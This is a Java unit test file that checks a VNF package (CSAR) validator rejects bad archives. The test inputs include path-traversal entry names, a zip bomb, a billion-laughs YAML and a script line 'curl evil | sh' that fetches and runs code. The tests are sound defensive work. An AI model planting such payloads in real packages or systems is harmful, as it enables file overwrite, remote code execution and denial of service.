package io.isthmus.vnf.catalog;

import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.ARCHIVE_LIMIT_EXCEEDED;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.HASH_MISMATCH;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.INVALID_MANIFEST;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.INVALID_TOSCA_META;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.INVALID_VNFD;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.MALFORMED_ARCHIVE;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.MISSING_ARTIFACT;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.MISSING_ENTRY_DEFINITIONS;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.MISSING_MANIFEST;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.MISSING_TOSCA_META;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.UNLISTED_ARTIFACT;
import static io.isthmus.vnf.catalog.InvalidPackageException.Reason.UNSAFE_ENTRY_NAME;
import static io.isthmus.vnf.catalog.TestCsar.IMAGE_PATH;
import static io.isthmus.vnf.catalog.TestCsar.MANIFEST_METADATA;
import static io.isthmus.vnf.catalog.TestCsar.MANIFEST_PATH;
import static io.isthmus.vnf.catalog.TestCsar.TOSCA_META;
import static io.isthmus.vnf.catalog.TestCsar.TOSCA_META_PATH;
import static io.isthmus.vnf.catalog.TestCsar.VNFD;
import static io.isthmus.vnf.catalog.TestCsar.VNFD_PATH;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsarValidationTest {

    // ---- the archive -------------------------------------------------------------------------------------------

    @Test
    void refusesWith400WhatIsNotAZipArchive() {
        // Given
        byte[] notAZip = "tosca_definitions_version: tosca_simple_yaml_1_3\n".getBytes(UTF_8);

        // When
        InvalidPackageException e = refusal(notAZip);

        // Then
        assertThat(e.reason()).isEqualTo(MALFORMED_ARCHIVE);
        assertThat(e.httpStatus()).isEqualTo(400);
        assertThat(e.isContentError()).isFalse();
        assertThat(e.detail()).contains("not a ZIP archive");
    }

    @Test
    void refusesAnEmptyUploadAsMalformed() {
        assertThat(refusal(new byte[0]).reason()).isEqualTo(MALFORMED_ARCHIVE);
    }

    @Test
    void refusesATruncatedZipArchiveAsMalformed() {
        // Given
        byte[] csar = TestCsar.valid().build();

        // When
        InvalidPackageException e = refusal(Arrays.copyOf(csar, csar.length / 2));

        // Then
        assertThat(e.reason()).isEqualTo(MALFORMED_ARCHIVE);
        assertThat(e.httpStatus()).isEqualTo(400);
    }

    @ParameterizedTest
    @ValueSource(strings = {"../evil.sh", "Definitions/../../evil.sh", "/etc/cron.d/evil", "C:/evil.bat",
            "Definitions\\..\\evil.sh", "Definitions//evil.sh", "./evil.sh"})
    void refusesAnEntryNameThatCouldEscapeTheArchive(String name) {
        // Given
        Map<String, byte[]> files = new LinkedHashMap<>(TestCsar.files(TOSCA_META_PATH, TOSCA_META));
        files.put(name, "#!/bin/sh\n".getBytes(UTF_8));

        // When
        InvalidPackageException e = refusal(TestCsar.zip(files));

        // Then
        assertThat(e.reason()).isEqualTo(UNSAFE_ENTRY_NAME);
        assertThat(e.httpStatus()).isEqualTo(422);
        assertThat(e.file()).contains(name);
    }

    @Test
    void refusesAnArchiveThatHoldsTheSameNameTwice() {
        // Given two entries whose names differ by one byte, then patched to the same name
        byte[] zip = TestCsar.zip(TestCsar.files(TOSCA_META_PATH, TOSCA_META, "Files/a.txt", "one", "Files/b.txt",
                "two"));
        byte[] patched = replaceAll(zip, "Files/b.txt".getBytes(UTF_8), "Files/a.txt".getBytes(UTF_8));

        // When
        InvalidPackageException e = refusal(patched);

        // Then
        assertThat(e.reason()).isEqualTo(UNSAFE_ENTRY_NAME);
        assertThat(e.detail()).contains("Files/a.txt appears twice");
    }

    @Test
    void refusesMoreEntriesThanTheLimit() {
        // Given
        byte[] csar = TestCsar.valid().build();
        CsarLimits limits = new CsarLimits(1 << 20, 3, 1 << 20, 1 << 20);

        // When
        InvalidPackageException e = catchThrowableOfType(InvalidPackageException.class,
                () -> CsarReader.read(csar, limits));

        // Then
        assertThat(e.reason()).isEqualTo(ARCHIVE_LIMIT_EXCEEDED);
    }

    @Test
    void stopsInflatingAnEntryThatGrowsBeyondTheLimit() {
        // Given 16 MiB of zeros, a few KiB compressed
        Map<String, byte[]> files = new LinkedHashMap<>(TestCsar.files(TOSCA_META_PATH, TOSCA_META));
        files.put("Files/bomb.bin", new byte[16 << 20]);
        byte[] bomb = TestCsar.zip(files);
        CsarLimits limits = new CsarLimits(1 << 20, 100, 1 << 20, 4 << 20);

        // When
        InvalidPackageException e = catchThrowableOfType(InvalidPackageException.class,
                () -> CsarReader.read(bomb, limits));

        // Then
        assertThat(bomb.length).isLessThan(1 << 20);
        assertThat(e.reason()).isEqualTo(ARCHIVE_LIMIT_EXCEEDED);
        assertThat(e.file()).contains("Files/bomb.bin");
    }

    // ---- layout ------------------------------------------------------------------------------------------------

    @Test
    void refusesAnArchiveWithoutToscaMetaNorRootYaml() {
        // Given
        byte[] csar = TestCsar.valid().without(TOSCA_META_PATH).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(MISSING_TOSCA_META);
        assertThat(e.httpStatus()).isEqualTo(422);
        assertThat(e.isContentError()).isTrue();
        assertThat(e.detail()).contains("TOSCA-Metadata/TOSCA.meta");
    }

    @ParameterizedTest
    @ValueSource(strings = {"TOSCA-Meta-File-Version", "CSAR-Version", "Created-By", "Entry-Definitions"})
    void refusesAToscaMetaWithoutAMandatoryKey(String key) {
        // Given
        String meta = TOSCA_META.lines().filter(l -> !l.startsWith(key + ":")).reduce("", (a, l) -> a + l + "\n");
        byte[] csar = TestCsar.valid().file(TOSCA_META_PATH, meta).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_TOSCA_META);
        assertThat(e.detail()).contains(key);
    }

    @Test
    void refusesAPackageWhoseEntryDefinitionsFileIsAbsent() {
        // Given
        byte[] csar = TestCsar.valid().without(VNFD_PATH).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(MISSING_ENTRY_DEFINITIONS);
        assertThat(e.file()).contains(VNFD_PATH);
        assertThat(e.detail()).contains(VNFD_PATH);
    }

    @Test
    void refusesAPackageWithoutItsManifest() {
        // Given
        byte[] csar = TestCsar.valid().manifestAt(null).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(MISSING_MANIFEST);
        assertThat(e.detail()).contains(MANIFEST_PATH);
    }

    @Test
    void refusesAToscaMetaThatNamesNoManifest() {
        // Given
        String meta = TOSCA_META.replace("ETSI-Entry-Manifest: acme-fw.mf\n", "");
        byte[] csar = TestCsar.valid().file(TOSCA_META_PATH, meta).build();

        // When / Then
        assertThat(refusal(csar).reason()).isEqualTo(MISSING_MANIFEST);
    }

    // ---- manifest ----------------------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"vnf_provider_id", "vnf_product_name", "vnf_release_date_time", "vnf_package_version"})
    void refusesAManifestWithoutAMandatoryMetadata(String key) {
        // Given
        String metadata = MANIFEST_METADATA.lines()
                .filter(l -> !l.startsWith(key + ":"))
                .reduce("", (a, l) -> a + l + "\n");
        byte[] csar = TestCsar.valid().manifestMetadata(metadata).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_MANIFEST);
        assertThat(e.detail()).contains(MANIFEST_PATH, key);
    }

    @Test
    void refusesAReleaseDateTimeThatIsNotRfc3339() {
        // Given
        String metadata = MANIFEST_METADATA.replace("2024-11-05T10:00:00+01:00", "5 Nov 2024");
        byte[] csar = TestCsar.valid().manifestMetadata(metadata).build();

        // When / Then
        assertThat(refusal(csar).reason()).isEqualTo(INVALID_MANIFEST);
    }

    @Test
    void refusesAFileWhoseDigestIsNotTheOneTheManifestDeclares() {
        // Given
        byte[] csar = TestCsar.valid().manifestHash(IMAGE_PATH, "ab".repeat(32)).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(HASH_MISMATCH);
        assertThat(e.httpStatus()).isEqualTo(422);
        assertThat(e.file()).contains(IMAGE_PATH);
        assertThat(e.detail()).contains(IMAGE_PATH, "ab".repeat(32));
    }

    @Test
    void refusesAVnfdChangedAfterTheManifestWasMade() {
        // Given
        byte[] csar = TestCsar.valid().tamper(VNFD_PATH, VNFD.replace("num_virtual_cpu: 4", "num_virtual_cpu: 64"))
                .build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(HASH_MISMATCH);
        assertThat(e.file()).contains(VNFD_PATH);
    }

    @Test
    void refusesATamperedFileWhoseSha512NoLongerMatches() {
        // Given
        byte[] csar = TestCsar.valid().algorithm("SHA-512").tamper(IMAGE_PATH, "malware").build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(HASH_MISMATCH);
        assertThat(e.detail()).contains("SHA-512", IMAGE_PATH);
    }

    @Test
    void refusesAFileTheManifestDoesNotList() {
        // Given
        byte[] csar = TestCsar.valid().tamper("Scripts/install.sh", "curl evil | sh").build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(UNLISTED_ARTIFACT);
        assertThat(e.file()).contains("Scripts/install.sh");
    }

    @Test
    void refusesAManifestThatListsAFileNotInTheArchive() {
        // Given
        byte[] csar = TestCsar.valid().dropAfterManifest(IMAGE_PATH).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(MISSING_ARTIFACT);
        assertThat(e.file()).contains(IMAGE_PATH);
    }

    @Test
    void refusesADigestAlgorithmOtherThanSha2() {
        // Given
        byte[] csar = TestCsar.valid().algorithm("MD5").build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_MANIFEST);
        assertThat(e.detail()).contains("MD5");
    }

    @Test
    void refusesAManifestWhoseProviderIsNotTheVnfdProvider() {
        // Given
        byte[] csar = TestCsar.valid()
                .manifestMetadata(MANIFEST_METADATA.replace("vnf_provider_id: Acme", "vnf_provider_id: Initech"))
                .build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_MANIFEST);
        assertThat(e.detail()).contains("Initech", "Acme");
    }

    // ---- VNFD --------------------------------------------------------------------------------------------------

    @Test
    void refusesAVnfdWithoutAVnfNodeTemplate() {
        // Given
        String vnfd = VNFD.replace("type: acme.nodes.Firewall", "type: acme.nodes.NotAVnf");
        byte[] csar = TestCsar.valid().vnfd(vnfd).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.file()).contains(VNFD_PATH);
        assertThat(e.detail()).contains(VNFD_PATH, "tosca.nodes.nfv.VNF");
    }

    @Test
    void refusesAVnfdWithoutAVduCompute() {
        // Given
        String vnfd = VNFD.substring(0, VNFD.indexOf("  policies:"))
                .replace("type: tosca.nodes.nfv.Vdu.Compute", "type: tosca.nodes.nfv.VduCp");
        byte[] csar = TestCsar.valid().vnfd(vnfd).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains("tosca.nodes.nfv.Vdu.Compute");
    }

    @ParameterizedTest
    @ValueSource(strings = {"descriptor_id", "provider", "product_name", "software_version", "descriptor_version",
            "flavour_id", "vnfm_info"})
    void refusesAVnfWithoutARequiredProperty(String property) {
        // Given
        String vnfd = VNFD.lines()
                .filter(l -> !l.startsWith("        " + property + ":"))
                .reduce("", (a, l) -> a + l + "\n");
        byte[] csar = TestCsar.valid().vnfd(vnfd).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains("firewall", property);
    }

    @Test
    void refusesAVnfdThatIsNotYaml() {
        // Given
        byte[] csar = TestCsar.valid().vnfd("tosca_definitions_version: [ unclosed\n").build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains(VNFD_PATH, "not valid YAML", "line");
    }

    @Test
    void refusesAVnfdWithoutToscaDefinitionsVersion() {
        // Given
        byte[] csar = TestCsar.valid().vnfd(VNFD.replace("tosca_definitions_version: tosca_simple_yaml_1_3\n", ""))
                .build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains("tosca_definitions_version");
    }

    @Test
    void refusesAVnfdThatExpandsAliasesExponentially() {
        // Given a valid VNFD with a "billion laughs" appended: 3^30 entries if expanded
        StringBuilder yaml = new StringBuilder(VNFD).append("laughs:\n  a0: &a0 [lol]\n");
        for (int i = 1; i <= 30; i++) {
            yaml.append("  a").append(i).append(": &a").append(i);
            yaml.append(" [*a").append(i - 1).append(", *a").append(i - 1).append(", *a").append(i - 1).append("]\n");
        }
        byte[] csar = TestCsar.valid().vnfd(yaml.toString()).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains("not valid YAML", "aliases");
    }

    @Test
    void refusesADefaultInstantiationLevelOutsideTheVduProfile() {
        // Given
        byte[] csar = TestCsar.valid().vnfd(VNFD.replace("number_of_instances: 3", "number_of_instances: 9")).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains("worker", "9");
    }

    @Test
    void refusesAMemorySizeWithoutUnit() {
        // Given
        byte[] csar = TestCsar.valid().vnfd(VNFD.replace("virtual_mem_size: 1 GB", "virtual_mem_size: 1024")).build();

        // When
        InvalidPackageException e = refusal(csar);

        // Then
        assertThat(e.reason()).isEqualTo(INVALID_VNFD);
        assertThat(e.detail()).contains("ctrl", "virtual_mem_size");
    }

    private static InvalidPackageException refusal(byte[] csar) {
        InvalidPackageException e = catchThrowableOfType(InvalidPackageException.class, () -> CsarReader.read(csar));
        assertThat(e).as("the package is refused").isNotNull();
        return e;
    }

    private static byte[] replaceAll(byte[] data, byte[] from, byte[] to) {
        byte[] out = data.clone();
        for (int i = 0; i + from.length <= out.length; i++) {
            if (Arrays.equals(out, i, i + from.length, from, 0, from.length)) {
                System.arraycopy(to, 0, out, i, to.length);
            }
        }
        return out;
    }
}
